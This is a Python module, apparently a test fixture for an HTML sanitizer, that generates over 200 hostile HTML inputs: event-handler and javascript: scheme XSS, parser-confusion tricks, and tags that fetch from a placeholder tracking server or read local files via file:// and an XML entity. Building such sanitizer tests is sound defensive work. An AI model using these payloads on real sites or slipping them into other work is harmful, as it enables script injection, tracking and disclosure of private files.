"""Hostile HTML: what people paste, post or send to make a browser or the printer of papers run, fetch or read something.

`{at}` stands for a server that counts who asks, `{file}` for a file that nobody may read.
"""

HANDLERS = [
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "onblur",
    "oncut",
    "onpaste",
    "ondrag",
    "onwheel",
    "onscroll",
    "ontoggle",
    "onbegin",
    "onend",
    "onpageshow",
    "onhashchange",
    "onanimationstart",
    "ontransitionend",
    "onpointerover",
    "onbeforeinput",
    "onsearch",
    "onseeking",
]
CARRIERS = ("img", "svg", "body", "video", "audio", "input", "details", "marquee", "object", "p", "data", "table", "td")
SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", " javascript:alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "javascript&colon;alert(1)", "\x01javascript:alert(1)",
    "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "file://{file}",
    "livescript:x", "view-source:{at}", "blob:{at}/x", "about:blank", "//{at}/x", "mhtml:{at}!x", "feed:javascript:alert(1)",
)  # fmt: skip
FETCHES = (
    "<img src='{at}/a'>", "<img srcset='{at}/b 1x'>", "<picture><source srcset='{at}/c'></picture>", "<image href='{at}/d'>",
    "<video src='{at}/e' poster='{at}/f'></video>", "<audio src='{at}/g'></audio>", "<iframe src='{at}/h'></iframe>",
    "<iframe srcdoc=\"<img src='{at}/i'>\"></iframe>", "<object data='{at}/j'></object>", "<embed src='{at}/k'>",
    "<link rel=stylesheet href='{at}/l'>", "<link rel=prefetch href='{at}/m'>", "<link rel=attachment href='{at}/n'>",
    "<base href='{at}/'>", "<meta http-equiv=refresh content='0;url={at}/o'>", "<style>@import url({at}/p);</style>",
    "<style>p{{background:url({at}/q)}}</style>", "<p style='background:url({at}/r)'>x</p>",
    "<p style=\"content:url('{at}/s')\">x</p>", "<table background='{at}/t'><tr><td>x</td></tr></table>",
    "<td background='{at}/u'>x</td>", "<body background='{at}/v'>", "<svg><image xlink:href='{at}/w'/></svg>",
    "<svg><use href='{at}/x#a'/></svg>", "<svg><style>@import '{at}/y';</style></svg>", "<math href='{at}/z'>x</math>",
    "<form action='{at}/A'><button>x</button></form>", "<button formaction='{at}/B'>x</button>",
    "<input type=image src='{at}/C'>", "<a ping='{at}/D' href='https://example.org'>x</a>", "<script src='{at}/E'></script>",
    "<svg><script href='{at}/F'></script></svg>", "<html manifest='{at}/G'>", "<frameset><frame src='{at}/H'></frameset>",
    "<bgsound src='{at}/I'>", "<applet code='{at}/J'></applet>", "<portal src='{at}/K'></portal>",
    "<v:imagedata src='{at}/L'/>", "<xml src='{at}/M'></xml>", "<track src='{at}/N'>",
    "<img src='file://{file}'>", "<iframe src='file://{file}'></iframe>", "<object data='file://{file}'></object>",
    "<link rel=attachment href='file://{file}'>", "<a rel=attachment href='file://{file}'>x</a>",
    "<style>@import url(file://{file});</style>", "<p style='background:url(file://{file})'>x</p>",
    "<svg><image href='file://{file}'/></svg>", "<!DOCTYPE x [<!ENTITY a SYSTEM 'file://{file}'>]><p>&a;</p>",
    "<xi:include href='file://{file}' parse='text'/>", "<embed src='file://{file}'>", "<audio src='file://{file}'>",
)  # fmt: skip
TRICKS = (
    "<script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script/src=data:,alert(1)>", "<SCRIPT>x</SCRIPT >",
    "<svg/onload=alert(1)//", "<img src=x onerror=alert(1)//", "<<script>alert(1)//<</script>", "<!--><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<%00script>x</script>",
    "<title><a href='</title><img src=x onerror=alert(1)>'>x", "<textarea></textarea><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>", "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<svg><p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<select><style></select><script>alert(1)</script>", "<xmp><script>alert(1)</script></xmp>", "<plaintext><script>alert(1)</script>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>", "<isindex action=javascript:alert(1)>", "<p class=\"footnote unnumbered onload\">x</p>",
    "<span class='footnote'><script>alert(1)</script>x</span>", "<data data-figure='x\" onclick=\"alert(1)'>x</data>",
    "<data data-figure=\"burglary.quarter:table\"><script>alert(1)</script></data>", "<data data-figure='<img src=x onerror=alert(1)>'>x</data>",
    "{{burglary:quarter<script>}}", "{{<img src=x onerror=alert(1)>:quarter}}", "<p data-pid='\"><script>alert(1)</script>'>x</p>",
    "<p class=MsoListParagraph style='mso-list:l0 level1'><span style='mso-list:Ignore'>1.<script>alert(1)</script></span>x</p>",
    "<div style='mso-element:footnote' id=ftn1><img src=x onerror=alert(1)>t</div><a href='#_ftn1'>[1]</a>",
    "<a href='#_ftn1'>[1]</a><div style='mso-element:footnote' id=ftn1>[1] &lt;script&gt;alert(1)&lt;/script&gt;</div>",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->", "<o:p onclick=alert(1)>mso</o:p>", "<st1:x mso='<script>'>y</st1:x>",
    "\ue000<script>\ue001", "<p>\u202e<script>alert(1)</script></p>", "<a href='https://example.org' onclick=alert(1) target=_top>x</a>",
    "<ol type='1\" onload=\"alert(1)' start='1;alert(1)'><li>x</li></ol>", "<td colspan='2\" onclick=\"x'>y</td>", "<hr onclick=alert(1)>",
)  # fmt: skip


def vectors(at: str, file: str) -> list[str]:
    """Every one, 200 and more, with the server and the file put in."""
    handled = [f"<{CARRIERS[n % len(CARRIERS)]} src=x {one}=alert(1)>x" for n, one in enumerate(HANDLERS * 2)]
    linked = [f'<a href="{one}">x</a>' for one in SCHEMES] + [f'<img src="{one}">' for one in SCHEMES]
    named = [*linked, *FETCHES, *TRICKS]
    return handled + [one.format(at=at, file=file) for one in named]
